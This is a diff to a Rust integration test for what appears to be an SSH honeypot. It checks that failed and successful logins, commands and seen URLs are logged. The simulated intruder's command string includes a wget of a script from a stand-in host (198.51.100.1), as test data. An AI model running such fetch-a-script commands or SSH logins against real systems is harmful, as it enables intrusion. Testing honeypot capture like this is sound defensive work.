@@ -37,15 +37,16 @@ async fn an_intruder_signs_in_over_ssh_and_everything_is_kept() {
     let port = port.to_string();
     let options = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", "-p", &port];
     // A wrong password is refused.
-    let wrong = [&["-p", "surely-not-this"][..], &["ssh"], &options, &[&format!("root@{ip}"), "id"]].concat();
+    let root = format!("root@{ip}");
+    let wrong = [&["-p", "surely-not-this"][..], &["ssh"], &options, &[&root, "id"]].concat();
     assert_ne!(client("sshpass", &wrong, b"").await.0, 0);
     let credentials = world.until("/credentials?service=ssh", |c| c["total"].as_i64() >= Some(1)).await;
     assert_eq!(credentials["data"][0]["secret_printable"], "surely-not-this");
     assert_eq!(credentials["data"][0]["outcome"], "failure");
     // The decky's own password opens.
-    let (user, password) = account(&world, &name);
+    let (user, password) = world.account(&name);
     let login = format!("{user}@{ip}");
-    let right = [&["-p", &password][..], &["ssh"], &options, &[&login, "id -un; echo kept > /tmp/left; wget http://198.51.100.1/x.sh"]].concat();
+    let right = [&["-p", &password][..], &["ssh"], &options, &[&login, "whoami; echo kept > /tmp/left; wget http://198.51.100.1/x.sh"]].concat();
     let (_, out, err) = client("sshpass", &right, b"").await;
     assert!(text(&out).starts_with(&user), "{} {}", text(&out), text(&err));
     let logs = world.until("/logs?search=service:ssh&limit=100", |l| has_event(l, "command") && has_event(l, "url_seen")).await;
@@ -59,29 +60,4 @@ async fn an_intruder_signs_in_over_ssh_and_everything_is_kept() {
     let replay = world.get(&format!("/transcripts/{name}/{}", session["sid"].as_str().unwrap())).await;
     assert_eq!(replay["header"]["version"], 2);
     assert!(world.stop().await);
-}
-
-/// A person's account of a decky, from the state file (which only its owner may read).
-fn account(world: &World, decky: &str) -> (String, String) {
-    let state: Value = serde_json::from_slice(&std::fs::read(world.home().join("decnet-state.json")).unwrap()).unwrap();
-    let mut found = None;
-    walk(&state, &mut |value| {
-        if value["decky"] == format!("local:{decky}") {
-            for account in value["accounts"].as_array().into_iter().flatten() {
-                if let (Some(name), Some(password)) = (account["name"].as_str(), account["password"].as_str()) {
-                    found.get_or_insert((name.to_owned(), password.to_owned()));
-                }
-            }
-        }
-    });
-    found.unwrap_or_else(|| panic!("{decky} has no account with a password in the state file"))
-}
-
-fn walk(value: &Value, visit: &mut dyn FnMut(&Value)) {
-    visit(value);
-    match value {
-        Value::Array(items) => items.iter().for_each(|v| walk(v, visit)),
-        Value::Object(items) => items.values().for_each(|v| walk(v, visit)),
-        _ => {}
-    }
 }
